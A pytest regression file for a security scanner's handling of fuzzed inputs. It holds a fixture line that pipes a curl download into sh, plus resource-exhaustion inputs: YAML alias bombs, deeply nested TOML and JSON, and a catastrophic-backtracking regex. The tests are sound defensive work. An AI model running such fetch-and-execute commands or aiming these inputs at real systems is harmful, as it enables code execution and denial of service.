"""Regression tests for the inputs fuzzing found outside the scanners' own error handling:
each is generated here, and each ends in a finding or a one-line error, never a traceback."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest
from typer.testing import CliRunner

from secplan.cli.app import app
from secplan.errors import ConfigError
from secplan.importers import import_sarif
from secplan.model import Artifact, Finding, Rule
from secplan.scanners._base import ScanContext
from secplan.scanners.coverage import NOT_VERIFIED
from tests.helpers import findings_of, scan, write

DEEP = "x = " + "[" * 500 + "]" * 500 + "\n"


def _cli(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


def test_a_gitignore_holding_a_lone_bang_costs_only_its_own_line(tmp_path: Path) -> None:
    write(tmp_path, ".gitignore", "!\n*.log\n")
    write(tmp_path, "a.log", "x")
    write(tmp_path, "run.sh", "curl http://example.com/x | sh\n")
    a = scan(tmp_path)
    paths = {x.relpath for x in a.report.artifacts}
    assert "run.sh" in paths and "a.log" not in paths  # the valid line still applies
    nv = findings_of(a, NOT_VERIFIED.id)
    assert [f.location.path for f in nv] == [".gitignore"]
    assert "line 1" in nv[0].message


def test_an_invalid_exclude_pattern_is_a_one_line_configuration_error(tmp_path: Path) -> None:
    write(tmp_path, "secplan.toml", 'exclude = ["[z-a]"]\n')
    with pytest.raises(ConfigError, match=r"secplan.toml: exclude: invalid path pattern '\[z-a\]'"):
        scan(tmp_path)
    code, out = _cli("scan", str(tmp_path))
    assert code == 2
    assert "secplan: error: secplan.toml: exclude" in out and "Traceback" not in out


def test_an_invalid_waiver_path_pattern_is_a_configuration_error(tmp_path: Path) -> None:
    write(
        tmp_path,
        ".secplan/waivers/w.toml",
        'rule = "SX001"\npaths = ["!"]\njustification = "long enough text"\n'
        'risk = "low"\nrequester = "a"\nexpires = 2027-01-01\n',
    )
    with pytest.raises(ConfigError, match=r"waivers/w.toml: paths: invalid path pattern '!'"):
        scan(tmp_path)


@pytest.mark.parametrize("where", ["pyproject.toml", "secplan.toml", ".secplan/evidence/e.toml"])
def test_toml_nested_500_deep_in_configuration_is_a_one_line_error(
    tmp_path: Path, where: str
) -> None:
    write(tmp_path, where, "[tool.secplan]\n" + DEEP if where == "pyproject.toml" else DEEP)
    with pytest.raises(ConfigError, match="nested too deeply"):
        scan(tmp_path)
    code, out = _cli("scan", str(tmp_path))
    assert code == 2 and "nested too deeply" in out


def test_toml_nested_500_deep_in_a_scanned_pyproject_is_a_finding(tmp_path: Path) -> None:
    write(tmp_path, "pkg/pyproject.toml", DEEP)
    a = scan(tmp_path)
    assert {x.relpath for x in a.report.artifacts} >= {"pkg/pyproject.toml"}


def _sarif(tmp_path: Path, result: object) -> Path:
    doc = {"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x"}}, "results": [result]}]}
    return write(tmp_path, "r.sarif", json.dumps(doc))


def test_a_sarif_result_whose_message_is_a_string_is_imported(tmp_path: Path) -> None:
    p = _sarif(tmp_path, {"ruleId": "R1", "message": "plain text"})
    (f,) = import_sarif(p, tmp_path)
    assert f.message == "[x R1] plain text"


@pytest.mark.parametrize(
    "result",
    [
        {"ruleId": ["a"], "message": 5, "locations": "x"},
        {"ruleId": "R", "locations": [{"physicalLocation": []}], "properties": []},
        {"ruleId": "R", "locations": [{"physicalLocation": {"artifactLocation": {"uri": {}}}}]},
        {"ruleId": "R", "level": {}, "rule": "x", "properties": {"security-severity": "nan"}},
        {"ruleId": "R", "locations": [{"physicalLocation": {"artifactLocation": {"uri": "//[x"}}}]},
    ],
)
def test_sarif_fields_of_the_wrong_type_are_treated_as_absent(
    tmp_path: Path, result: dict[str, object]
) -> None:
    p = _sarif(tmp_path, result)
    (f,) = import_sarif(p, tmp_path)
    assert f.rule == "SX101"


def test_sarif_nested_too_deeply_is_a_one_line_error(tmp_path: Path) -> None:
    p = write(tmp_path, "r.sarif", "[" * 100_000 + "]" * 100_000)
    with pytest.raises(ConfigError, match="not JSON"):
        import_sarif(p, tmp_path)


def test_an_evidence_path_over_the_name_limit_affects_only_its_record(tmp_path: Path) -> None:
    for name, file, expires in (
        ("long", "d/" + "a" * 300 + ".md", "2027-01-01"),
        ("old", "docs/ok.md", "2026-02-01"),
    ):
        write(
            tmp_path,
            f".secplan/evidence/{name}.toml",
            f'control = "HS1"\ntitle = "t"\nowner = "o"\ndate = 2026-01-01\n'
            f'expires = {expires}\nfile = "{file}"\n',
        )
    write(tmp_path, "docs/ok.md", "x")
    write(tmp_path, "d/x.md", "x")  # the folder exists: the long name itself is the problem
    a = scan(tmp_path)
    assert not findings_of(a, NOT_VERIFIED.id)
    missing = findings_of(a, "EV002")
    assert [f.location.path for f in missing] == [".secplan/evidence/long.toml"]
    assert [f.location.path for f in findings_of(a, "EV001")] == [".secplan/evidence/old.toml"]


def test_an_evidence_path_with_a_nul_is_a_configuration_error(tmp_path: Path) -> None:
    write(
        tmp_path,
        ".secplan/evidence/e.toml",
        'control = "HS1"\ntitle = "t"\nowner = "o"\ndate = 2026-01-01\n'
        'expires = 2027-01-01\nfile = "a\\u0000b"\n',
    )
    with pytest.raises(ConfigError, match=r"e\.toml: file: a path cannot hold a NUL"):
        scan(tmp_path)


class _Stuck:
    """A scanner that never finishes on its file."""

    name: ClassVar[str] = "stuck"
    rules: ClassVar[tuple[Rule, ...]] = ()

    def applies_to(self, artifact: Artifact) -> bool:
        return artifact.relpath == "slow.txt"

    def scan(self, artifact: Artifact, ctx: ScanContext) -> Iterator[Finding]:
        n = 0
        while True:  # pure Python work: only the deadline stops it
            n += 1
            try:
                if n < 0:
                    yield from ()
            except Exception:  # a scanner that swallows errors must still be stopped
                continue


def test_a_scanner_past_the_per_file_deadline_leaves_the_file_not_verified(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECPLAN_FILE_SECONDS", "0.5")
    write(tmp_path, "slow.txt", "x")
    write(tmp_path, "run.sh", "curl http://example.com/x | sh\n")
    a = scan(tmp_path, extra_scanners=(_Stuck(),))
    (nv,) = findings_of(a, NOT_VERIFIED.id)
    assert nv.location.path == "slow.txt" and "stuck stopped: took longer than 0.5 s" in nv.message
    assert any(f.location.path == "run.sh" for f in a.report.findings)  # the scan went on


def _corrupt_parquet(path: Path) -> Path:
    path.write_bytes(b"PAR1" + b"\x15\x04" * 40 + b"\x00\x00\x00\x00PAR1")
    return path


def _sparse_xlsx(path: Path) -> Path:
    """A workbook of a few hundred bytes that declares a sheet of 1,048,576 rows by 16,384
    columns and stores a cell at each far corner."""
    ct = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        'worksheet+xml"/></Types>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    )
    wb = (
        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    wbrels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>"
    )
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main"><dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", ct)
        zf.writestr("_rels/.rels", rels)
        zf.writestr("xl/workbook.xml", wb)
        zf.writestr("xl/_rels/workbook.xml.rels", wbrels)
        zf.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("bad.parquet", _corrupt_parquet),
        ("bad.xlsx", lambda p: p.write_bytes(b"PK\x03\x04" + b"\x00" * 60) and p),
    ],
)
def test_data_detect_on_a_damaged_file_is_a_one_line_error(
    tmp_path: Path, name: str, make: object
) -> None:
    path = make(tmp_path / name)  # type: ignore[operator]
    code, out = _cli("data", "detect", str(path))
    assert code == 2, out
    assert f"{name}: not a readable" in out and "Traceback" not in out


def test_a_sparse_workbook_is_read_as_stored_not_as_declared(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    from secplan.data.readers import open_reader

    r = open_reader(_sparse_xlsx(tmp_path / "s.xlsx"))
    rows = [row for b in r.batches() for row in b.rows]
    assert r.fields == ["S!name"]  # the header as stored, not 16,384 padded columns
    assert rows == []  # the far cell lies beyond the header's columns; no empty rows


def test_yaml_aliases_are_limited_by_the_nodes_they_expand_to() -> None:
    from secplan.scanners.platform_config.yamlsafe import YamlLimitError, load_all

    levels = ["a: &a [" + ", ".join(["1"] * 10) + "]"]
    for prev, name in zip("abcde", "bcdef", strict=True):
        levels.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 10) + "]")
    text = "\n".join(levels) + "\n"  # 50 aliases, a million values once expanded
    with pytest.raises(YamlLimitError, match="nodes with aliases expanded"):
        load_all(text)
    assert load_all("a: &a [1, 2]\nb: [*a, *a]\n")[0]["b"] == [[1, 2], [1, 2]]


def test_a_kubernetes_list_of_aliases_to_one_large_deployment_is_not_verified(
    tmp_path: Path,
) -> None:
    env = "".join(f"            - {{name: E{i}, value: v{i}}}\n" for i in range(3000))
    write(
        tmp_path,
        "deploy.yaml",
        "apiVersion: v1\nkind: List\nitems:\n- &d\n  apiVersion: apps/v1\n  kind: Deployment\n"
        "  metadata: {name: m}\n  spec:\n    template:\n      spec:\n        containers:\n"
        "        - name: c\n          image: x\n          env:\n" + env + "- *d\n" * 99,
    )
    a = scan(tmp_path)
    messages = [f.message for f in a.report.findings if f.location.path == "deploy.yaml"]
    assert any("aliases expanded" in m for m in messages), messages


def test_the_deadline_interrupts_a_backtracking_regular_expression() -> None:
    import re

    from secplan.deadline import DeadlineExceeded, deadline

    evil = re.compile(r"(a+)+$")  # exponential: never finishes on its own
    with pytest.raises(DeadlineExceeded, match=r"took longer than 0\.2 s"), deadline(0.2):
        evil.match("a" * 64 + "!")


def test_the_work_budget_stops_a_reader_that_reads_too_much() -> None:
    from secplan.deadline import DeadlineExceeded, check, deadline, spend

    spend(10**9)  # outside a deadline: nothing counts
    check()
    with pytest.raises(DeadlineExceeded, match="more than 10 items of work"), deadline(60, work=10):
        spend(5)
        spend(6)


def test_the_harness_tells_a_busy_machine_from_a_hang(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import time

    from tests.fuzz import _text_harness as h

    monkeypatch.setattr(h, "INPUT_SECONDS", 0.2)
    monkeypatch.setattr(h, "WALL_SECONDS", 1.0)
    saved: list[str] = []

    def save(group: str, target: str, data: bytes) -> Path:
        saved.append(target)
        return h.HERE / "regressions" / group / target

    monkeypatch.setattr(h, "save", save)
    h.check("data", "slow", lambda data: time.sleep(0.4), b"waits")  # wall time, no processor

    def spin(data: bytes) -> None:
        ends = time.monotonic() + 30
        while time.monotonic() < ends:
            pass

    with pytest.raises(h.FuzzFailure, match="hang"):
        h.check("data", "spin", spin, b"spins")
    assert saved == ["spin"]


def test_an_integer_of_thousands_of_digits_in_a_record_is_a_one_line_error(
    tmp_path: Path,
) -> None:
    from secplan.governance.records import load_records

    write(
        tmp_path,
        ".secplan/evidence/e.toml",
        'control = "HS1"\ntitle = "t"\nowner = "o"\ndate = 2026-01-01\nexpires = '
        + "2" * 5000
        + "\n",
    )
    with pytest.raises(ConfigError, match="too large to read"):
        load_records(tmp_path)


def test_a_dotted_key_of_thousands_of_parts_is_refused_not_parsed(tmp_path: Path) -> None:
    key = "a" + ".lo" * 20_000
    write(tmp_path, "secplan.toml", f"{key} = 1\n")
    with pytest.raises(ConfigError, match="more than 256 dotted"):
        from secplan.config import load_settings

        load_settings(tmp_path)
    (tmp_path / "secplan.toml").unlink()
    write(tmp_path, "pkg/pyproject.toml", f'[project]\nname = "x"\n{key} = 1\n')
    a = scan(tmp_path)  # a scanned manifest, not the project's configuration: scanned
    assert "pkg/pyproject.toml" in {x.relpath for x in a.report.artifacts}


def test_dots_inside_strings_and_comments_are_not_key_parts() -> None:
    from secplan._toml import loads

    prose = "x" + ". y" * 400
    doc = loads(f"a = \"{prose}\" # {'.' * 400}\nb = '{'.' * 300}'\n")
    assert doc["a"] == prose and doc["b"] == "." * 300
